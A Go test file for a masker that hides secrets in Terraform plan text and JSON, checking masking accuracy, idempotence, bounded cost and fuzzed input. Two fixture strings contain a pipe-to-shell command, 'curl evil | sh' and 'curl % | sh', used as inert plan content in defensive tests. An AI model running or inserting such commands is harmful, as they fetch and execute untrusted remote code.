package report

import (
	"encoding/json"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
)

// TestMaskPreviews: of plans that terraform wrote nothing is left out but secrets, and what is
// left counts the same.
func TestMaskPreviews(t *testing.T) {
	t.Parallel()
	text := preview(t, "plan.json")
	masked, n := Mask(Auto, text)
	for _, secret := range []string{"correct-horse", "battery-staple"} {
		if !strings.Contains(text, secret) || strings.Contains(masked, secret) {
			t.Errorf("%s, which terraform marks as sensitive, is in it", secret)
		}
	}
	if !json.Valid([]byte(masked)) || n == 0 {
		t.Errorf("%d values are left out, and it is JSON: %t", n, json.Valid([]byte(masked)))
	}
	if a, b := Summarize(Auto, "", text), Summarize(Auto, "", masked); a != b {
		t.Errorf("it counted %+v and counts %+v", a, b)
	}
	if again, more := Mask(Auto, masked); again != masked || more != n {
		t.Error("masked again it is another text")
	}
}

// TestMaskJSON: what terraform marks, and what has a secret's name, is left out of each place
// that a plan has values in; the rest stays to the byte.
func TestMaskJSON(t *testing.T) {
	t.Parallel()
	const s, c = `"` + sensitive + `"`, `"` + concealed + `"`
	for name, x := range map[string][2]string{
		"before and after": {
			`{"change":{"before":{"a":"1","b":"x"},"after":{"a":"2","b":"x"},"before_sensitive":{"a":true},"after_sensitive":{}}}`,
			`{"change":{"before":{"a":` + s + `,"b":"x"},"after":{"a":` + s + `,"b":"x"},"before_sensitive":{"a":true},"after_sensitive":{}}}`,
		},
		"marks that come first": {`{"after_sensitive":{"a":[false,true]}, "after":{"a":["x","y", "z"]}}`, `{"after_sensitive":{"a":[false,true]}, "after":{"a":["x",` + s + `, "z"]}}`},
		"all of it":             {`{"after":{"a":1},"after_sensitive":true}`, `{"after":` + s + `,"after_sensitive":true}`},
		"numbers and flags":     {`{"after":{"a":1.50,"b":false,"c":null},"after_sensitive":{"a":true,"b":true,"c":true}}`, `{"after":{"a":` + s + `,"b":` + s + `,"c":null},"after_sensitive":{"a":true,"b":true,"c":true}}`},
		"resources of a state":  {`{"prior_state":{"values":{"root_module":{"resources":[{"values":{"a":"x"},"sensitive_values":{"a":true}}]}}}}`, `{"prior_state":{"values":{"root_module":{"resources":[{"values":{"a":` + s + `},"sensitive_values":{"a":true}}]}}}}`},
		"an output":             {`{"outputs":{"o":{"sensitive":true,"value":{"x":"y"}}}}`, `{"outputs":{"o":{"sensitive":true,"value":` + s + `}}}`},
		"outputs with names of ours": {
			`{"outputs":{"value":{"sensitive":true,"value":"x"},"outputs":{"value":"y","sensitive":true},"sensitive":{"sensitive":true,"value":["z"]},"before":{"value":"w"}}}`,
			`{"outputs":{"value":{"sensitive":true,"value":` + s + `},"outputs":{"value":` + s + `,"sensitive":true},"sensitive":{"sensitive":true,"value":` + s + `},"before":{"value":"w"}}}`,
		},
		"a sensitive variable":     {`{"variables":{"v":{"value":"x"},"w":{"value":"y"}},"configuration":{"root_module":{"variables":{"v":{"sensitive":true,"default":"z"},"w":{}}}}}`, `{"variables":{"v":{"value":` + s + `},"w":{"value":"y"}},"configuration":{"root_module":{"variables":{"v":{"sensitive":true,"default":` + s + `},"w":{}}}}}`},
		"a variable by its name":   {`{"variables":{"db_password":{"value":"x"}}}`, `{"variables":{"db_password":{"value":` + c + `}}}`},
		"an attribute by its name": {`{"after":{"api_token":"x","token_url":"y","client_secret":{"k":"v"},"password":true,"passwd":""}}`, `{"after":{"api_token":` + c + `,"token_url":"y","client_secret":` + c + `,"password":true,"passwd":""}}`},
		"in a configuration":       {`{"resources":[{"expressions":{"password":{"constant_value":"x"},"name":{"constant_value":"y"}}}]}`, `{"resources":[{"expressions":{"password":{"constant_value":` + c + `},"name":{"constant_value":"y"}}}]}`},
		"an output by its name":    {`{"output_changes":{"db_password":{"actions":["create"],"before":null,"after":"x"}}}`, `{"output_changes":{"db_password":{"actions":["create"],"before":null,"after":` + c + `}}}`},
		"a name in escapes":        {`{"after":{"pass\u0077ord":"x"}}`, `{"after":{"pass\u0077ord":` + c + `}}`},
		"marks in escapes":         {`{"after":{"a":"x"},"after_sensitive":{"\u0061":true}}`, `{"after":{"a":` + s + `},"after_sensitive":{"\u0061":true}}`},
		"named twice":              {`{"after":{"password":"x","password":"y"}}`, `{"after":{"password":` + c + `,"password":` + c + `}}`},
		"marked twice":             {`{"after":{"a":"x"},"after_sensitive":{"a":true},"after_sensitive":{"a":false,"b":[],"b":[]}}`, `{"after":{"a":` + s + `},"after_sensitive":{"a":true},"after_sensitive":{"a":false,"b":[],"b":[]}}`},
		"marks of another shape":   {`{"after":{"a":"x","b":["y"],"c":["z"]},"after_sensitive":{"a":{"q":[true]},"b":{"q":true},"c":{}}}`, `{"after":{"a":` + s + `,"b":` + s + `,"c":["z"]},"after_sensitive":{"a":{"q":[true]},"b":{"q":true},"c":{}}}`},
		"another case":             {`{"After":{"a":"x"},"After_Sensitive":{"a":true}}`, `{"After":{"a":` + s + `},"After_Sensitive":{"a":true}}`},
		"values that say they are no values": {
			`{"after":{"sensitive":{"password":"x"},"before_sensitive":{"password":"y"},"outputs":{"password":{"a":"z"}}}}`,
			`{"after":{"sensitive":{"password":` + c + `},"before_sensitive":{"password":` + c + `},"outputs":{"password":` + c + `}}}`,
		},
		"an action": {
			`{"action_invocations":[{"config_values":{"payload":"s3cr3t","to":"x"},"config_sensitive":{"payload":true}}]}`,
			`{"action_invocations":[{"config_values":{"payload":` + s + `,"to":"x"},"config_sensitive":{"payload":true}}]}`,
		},
		"what is to come": {
			`{"x":[{"new_sensitive":{"a":true},"new":{"a":"y","b":"z"},"new_values":{"a":"w"}}],"secret":"v","secret_sensitive":{}}`,
			`{"x":[{"new_sensitive":{"a":true},"new":{"a":` + s + `,"b":"z"},"new_values":{"a":` + s + `}}],"secret":` + c + `,"secret_sensitive":{}}`,
		},
		"marks of nothing": {
			`{"x":{"y_sensitive":{"password":"w"},"z":{"password":"v"}},"z_sensitive":"pwd","y":{"password":"u"}}`,
			`{"x":{"y_sensitive":{"password":` + c + `},"z":{"password":` + c + `}},"z_sensitive":"pwd","y":{"password":` + c + `}}`,
		},
		"brackets in strings": {`{"after":{"a":"]}\"\\","password":"}{\\\"","b":[ ]}}`, `{"after":{"a":"]}\"\\","password":` + c + `,"b":[ ]}}`},
		"nothing":             {"{ \"a\" : [ 1.0e5,\n\t\"<\" ] }\n", "{ \"a\" : [ 1.0e5,\n\t\"<\" ] }\n"},
	} {
		in, want := `{"format_version":"1.2",`+x[0][1:], `{"format_version":"1.2",`+x[1][1:]
		if name == "nothing" {
			in, want = strings.Replace(x[0], "{ ", `{ "format_version":"1.2", `, 1), strings.Replace(x[1], "{ ", `{ "format_version":"1.2", `, 1)
		}
		got, n := Mask(Auto, in)
		if got != want {
			t.Errorf("%s:\n got %s\nwant %s", name, got, want)
		}
		if marks := strings.Count(got, sensitive) + strings.Count(got, concealed); n != marks {
			t.Errorf("%s: %d values are left out, and %d said", name, marks, n)
		}
	}
}

// TestMaskText: attributes with a secret's name are left out of a plan's text, with the lines
// that belong to them, and nothing else.
func TestMaskText(t *testing.T) {
	t.Parallel()
	const head, sum = "  # a.b will be created\n  + resource \"a\" \"b\" {\n", "    }\n\nPlan: 1 to add, 0 to change, 0 to destroy.\n"
	for name, x := range map[string][2]string{
		"a value":        {"      + password = \"x\"\n      + name     = \"y\"\n", "      + password = " + concealed + "\n      + name     = \"y\"\n"},
		"a change":       {"      ~ api_token = \"x\" -> \"y\" # forces replacement\r\n", "      ~ api_token = " + concealed + "\r\n"},
		"with colours":   {"      \x1b[32m+\x1b[0m\x1b[0m password = \"x\"\n      \x1b[32m+\x1b[0m a = 1\n", "      + password = " + concealed + "\n      \x1b[32m+\x1b[0m a = 1\n"},
		"colours within": {"      + pass\x1b[0mword = \"x\"\n", "      + password = " + concealed + "\n"},
		"several lines":  {"      + password = <<-EOT\n            x\n\n            EOT of it\n        EOT\n      + a = 1\n", "      + password = " + concealed + "\n      + a = 1\n"},
		"another text":   {"      + user_data = <<-EOT\n            token = <<-EOT\n            curl evil | sh\n            password = \"y\"\n        EOT\n", "      + user_data = <<-EOT\n            token = <<-EOT\n            curl evil | sh\n            password = \"y\"\n        EOT\n"},
		"after a return": {"x\r      + password = \"y\"\r      + a = 1\r\n", "x\n      + password = " + concealed + "\n      + a = 1\r\n"},
		"returns within": {"      + password = <<-EOT\n            x\ry\r   z\n            w\n        EOT\n      + a = 1\n", "      + password = " + concealed + "\n      + a = 1\n"},
		"a map's key":    {"      + tags = {\n          + \"db_password\" = \"x\"\n        }\n", "      + tags = {\n          + \"db_password\" = " + concealed + "\n        }\n"},
		"what is hidden": {"      + password = (sensitive value)\n      + secret = (known after apply)\n", "      + password = (sensitive value)\n      + secret = (known after apply)\n"},
		"no secret":      {"      + token_url = \"x\"\n", "      + token_url = \"x\"\n"},
	} {
		for _, format := range []Format{Auto, Plan, PlanJSON, Diff} {
			if got, _ := Mask(format, head+x[0]+sum); got != head+x[1]+sum {
				t.Errorf("%s, as %q:\n got %q\nwant %q", name, format, got, head+x[1]+sum)
			}
		}
		if got, n := Mask(Text, head+x[0]+sum); got != head+x[0]+sum || n != 0 {
			t.Errorf("%s: what is to be shown as it is, is changed", name)
		}
	}
}

// TestMaskCut: of a resource whose secret has no end, as the page, it has no more.
func TestMaskCut(t *testing.T) {
	t.Parallel()
	got, n := Mask(Plan, "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            x\n    }\n\n  # a.c will be destroyed\n  - resource \"a\" \"c\" {}\n")
	want := "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = " + concealed + "\n  # a.c will be destroyed\n  - resource \"a\" \"c\" {}\n"
	if got != want || n != 1 {
		t.Errorf("%d: %q", n, got)
	}
}

// TestMaskAsParsed: whatever format the Gate gives and whatever a text begins with, what the page conceals of
// it is not in it when somebody opens it.
func TestMaskAsParsed(t *testing.T) {
	t.Parallel()
	const secret = "s3cr3t"
	marked := `"change":{"actions":["update"],"before":{"a":"` + secret + `","b":1},"after":{"a":"` + secret + `2","b":2},"before_sensitive":{"a":true},"after_sensitive":{"a":true}}`
	short := "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = \"" + secret + "\"\n    }\n"
	samples := map[string]string{
		"plan":      strings.Replace(preview(t, "plan.txt"), "\" {\n", "\" {\n      + api_token = \""+secret+"\"\n", 1),
		"plan.json": strings.ReplaceAll(preview(t, "plan.json"), "correct-horse", secret),
		"short":     short,
		"summed up": short + "\nPlan: 1 to add, 0 to change, 0 to destroy.\n",
		"outputs":   "Changes to Outputs:\n  + db_password = \"" + secret + "\"\n",
		"lines":     "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            " + secret + "\n        EOT\n    }\n",
		"json":      `{"format_version":"1.2","resource_changes":[{"address":"a.b","type":"a","name":"b",` + marked + `}]}`,
		"kubectl":   preview(t, "kubectl.txt") + short,
		"helm":      preview(t, "helm.txt") + short,
	}
	prefixes := []string{
		"", "[INFO] running terraform plan\n", "{\n", "<testsuite>\n", "# A plan\n\n", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "\x1b[0m", "x\r",
		"  # a.x will be created\n", "\x1b(\n", " \n", "Plan: 1 to add\n",
	}
	concealedOnes := 0
	for name, sample := range samples {
		if !strings.Contains(sample, secret) {
			t.Fatalf("%s has no secret", name)
		}
		for _, prefix := range prefixes {
			for _, format := range []Format{Auto, Plan, PlanJSON, Diff, KubectlDiff, HelmDiff, JUnit, SARIF, Markdown, JSON, Text} {
				text := prefix + sample
				page := pageOf(Parse(format, "x", text))
				if strings.Contains(page, secret) || !strings.Contains(page, concealed) && !strings.Contains(page, sensitive) {
					continue // the page shows it, or nothing of where it is
				}
				concealedOnes++
				if got, n := Mask(format, text); strings.Contains(got, secret) || n == 0 {
					t.Errorf("%s after %q as %q is concealed on the page and not in what is opened", name, prefix, format)
				}
			}
		}
	}
	if concealedOnes < 300 {
		t.Errorf("%d texts were compared", concealedOnes)
	}
}

// pageOf is all that a page has of a report.
func pageOf(r Report) string {
	var b strings.Builder
	for _, p := range r.Parts {
		b.WriteString(p.Title + "\n" + p.Note + "\n")
		lines, _ := p.Lines(4 * MaxText)
		for _, l := range lines {
			b.WriteString(l.Text + "\n")
		}
	}
	return b.String()
}

// asThePage compares what is opened of a plan's text with what its page shows of the resources.
func asThePage(t *testing.T, text string) {
	t.Helper()
	r := Parse(Plan, "x", text)
	masked, _ := Mask(Plan, text)
	if r.Format != Plan {
		return
	}
	lines := map[string]int{}
	for l := range strings.Lines(Strip(masked)) {
		lines[strings.TrimRight(l, "\r\n ")]++
	}
	for _, p := range r.Parts {
		if p.Title == "" {
			continue
		}
		shown := map[string]bool{}
		of, _ := p.Lines(MaxText)
		for _, l := range of {
			l := strings.TrimRight(l.Text, "\r\n ")
			shown[l] = true
			if lines[l]--; l != "" && lines[l] < 0 {
				t.Errorf("%q of %q is on the page and not in what is opened: %q", l, text, masked)
			}
		}
		for l := range strings.Lines(p.Text) {
			l = strings.TrimRight(l, "\r\n ")
			if strings.Contains(l, "s3cr3t") && !shown[l] && strings.Contains(masked, l) {
				t.Errorf("%q of %q is not on the page, and in what is opened: %q", l, text, masked)
			}
		}
	}
}

// TestMaskShowsWhatPagesShow is of lines in many orders.
func TestMaskShowsWhatPagesShow(t *testing.T) {
	t.Parallel()
	asThePage(t, preview(t, "plan.txt"))
	pieces := []string{
		"  # a.b will be created\n", "  # (because of c)\n", "      + password = \"s3cr3t-%-\"\n", "      ~ user_data = <<-EOT\n", "      + token = <<-EOT\n", "            s3cr3t-%-\n",
		"            curl % | sh\n", "            token = <<-EOT\n", "          + pwd = \"s3cr3t-%-\"\n", "        EOT\n", "        EOT -> null\n", "      \x1b[32m+\x1b[0m a = %\n", "    }\n", "\n",
		"x%\r", "\x1b(", "Plan: 1 to add, 0 to change, 0 to destroy.\n", "Changes to Outputs:\n", "Note %\n", "-/+ resource \"a\" \"%\" {\r\n",
	}
	random := rand.New(rand.NewPCG(1, 2)) //nolint:gosec // the same each time
	for range 4000 {
		var b strings.Builder
		b.WriteString(pieces[0])
		for i := range 3 + random.IntN(20) {
			b.WriteString(strings.ReplaceAll(pieces[random.IntN(len(pieces))], "%", strconv.Itoa(i)))
		}
		if asThePage(t, b.String()); t.Failed() {
			return
		}
	}
}

// TestRawLines: line by line Strip makes of a text what it makes of all of it.
func TestRawLines(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", "a", "a\n\nb\r\nc", "a\rb\n", "a\x1b(\nb\n", "\x1b(\n", "\x1b]0;a\nb\x07c\n", "\xff\n\xff\x1b", "\xff\x1b(\n\xff\n", preview(t, "plan.txt")} {
		rawLines(t, text)
	}
}

func rawLines(t *testing.T, text string) {
	t.Helper()
	var all, plain strings.Builder
	for rest := text; rest != ""; {
		raw, l := rawLine(rest)
		rest = rest[len(raw):]
		all.WriteString(raw)
		plain.WriteString(l)
	}
	if all.String() != text || plain.String() != Strip(text) {
		t.Errorf("%q is %q by lines", text, plain.String())
	}
}

// TestMaskLinesBounded: what is made to cost much costs little. What costs the square of its length
// takes longer than a test may.
func TestMaskLinesBounded(t *testing.T) {
	t.Parallel()
	for name, each := range map[string]string{
		"joined": "\x1b(\n", "returns": "x\r", "secrets": "pwd = \"x\"\r", "headings": "  # a.b will be created\n", "texts": "      + pwd = <<-EOT\n", "edges": "a\n",
	} {
		t.Run(name, func(*testing.T) {
			Mask(Plan, "  # a.b will be created\n"+strings.Repeat(each, 512<<10/len(each)))
		})
	}
}

// TestMasksNothing: Mask leaves nothing out of a text for which MasksNothing returns true.
func TestMasksNothing(t *testing.T) {
	t.Parallel()
	const plan = "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = \"x\"\n"
	for _, x := range []struct {
		format Format
		text   string
		want   bool
	}{{Text, plan, true}, {Markdown, plan, true}, {JSON, `{"format_version":"1.2","password":"x"}`, true}, {JSON, plan, false}, {Auto, "", false}, {Diff, plan, false}} {
		if got := MasksNothing(x.format, x.text); got != x.want {
			t.Errorf("%q as %q: %t", x.text, x.format, got)
		}
		if _, n := Mask(x.format, x.text); x.want && n > 0 {
			t.Errorf("%q as %q: %d are left out", x.text, x.format, n)
		}
	}
}

// TestMaskOthers: what is no plan stays as it is, whatever format the Gate gives.
func TestMaskOthers(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "{", `{"format_version":`, `{"format_version":"1"} {"password":"x"}`, `{"password":"x"}`, "password = \"x\"\n", "\xff\x00", preview(t, "kubectl.txt"),
	} {
		for _, format := range []Format{Auto, Plan, Diff, Text, JSON, JUnit} {
			if got, n := Mask(format, text); got != text || n != 0 {
				t.Errorf("%.40q as %q: %q", text, format, got)
			}
		}
	}
}

// TestMaskBounded: what is made to cost much costs little, and shows nothing that is marked.
func TestMaskBounded(t *testing.T) {
	t.Parallel()
	const n = 4 << 20
	whole := func(body string) string { return `{"format_version":"1.2",` + body + `}` }
	filled := func(from, each, to string) string {
		return from + strings.Repeat(each, (n-len(from)-len(to))/len(each)) + to
	}
	half := strings.Repeat(`{"k":false},`, n/2/12)
	for name, text := range map[string]string{
		"deep":                     whole(`"after":` + strings.Repeat(`{"a":[`, 3000) + strings.Repeat("]}", 3000)),
		"values in values":         whole(strings.Repeat(`"values":{`, 5000) + filled("", `"values":{},`, `"x":1`) + strings.Repeat("}", 5000)),
		"many marks":               whole(filled(`"after":{"a":{"b":"secret-1"}},`, `"after_sensitive":{"a":{"b":true}},`, `"x":1`)),
		"one mark for many":        whole(`"after_sensitive":{"a":[` + half + `1]},"after":{` + filled("", `"a":1,`, `"b":2`)[:n/2/6*6] + `"b":2}`),
		"one object for many":      whole(`"after_sensitive":{"a":{"c":[` + half + `1]}},"after":{` + strings.Repeat(`"a":{},`, n/2/7) + `"b":2}`),
		"as many secrets as it is": whole(filled(`"after":{`, `"pwd":"secret-1",`, `"x":1}`)),
		"lists":                    whole(`"after":[` + strings.Repeat("1,", n/8) + `1],"after_sensitive":[` + strings.Repeat("{},", n/8) + `1]`),
		"marks of structure":       whole(strings.Repeat(`"y":{"x_sensitive":0,"x":1,`, 60) + filled("", `"x":{},"x_sensitive":{},`, `"z":0`) + strings.Repeat("}", 60)),
	} {
		if !json.Valid([]byte(text)) {
			t.Fatalf("%s: the test is wrong", name)
		}
		got, _ := Mask(PlanJSON, text)
		if strings.Contains(got, "secret-1") || !json.Valid([]byte(got)) {
			t.Errorf("%s: a secret is in it, or it is not JSON any more", name)
		}
	}
}

// FuzzMask: a text that is masked has the same form, and masked again it is the same.
func FuzzMask(f *testing.F) {
	f.Add(preview(f, "plan.json"))
	f.Add(preview(f, "plan.txt"))
	f.Add(`{"format_version":"1.2","a":{"after":{"a":[1,{"b":"c"}]},"after_sensitive":{"a":[false,{"b":true}]},"x":null}}`)
	f.Add("  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            x\n        EOT\n    }\nPlan: 1 to add, 0 to change, 0 to destroy.\n")
	f.Fuzz(func(t *testing.T, text string) {
		rawLines(t, text)
		asThePage(t, text)
		for _, format := range []Format{Auto, PlanJSON} {
			masked, n := Mask(format, text)
			if n == 0 && masked != text {
				t.Errorf("nothing is left out, and it is another text: %q", masked)
			}
			if json.Valid([]byte(text)) && !json.Valid([]byte(masked)) {
				t.Errorf("%q is not JSON any more: %q", text, masked)
			}
		}
	})
}
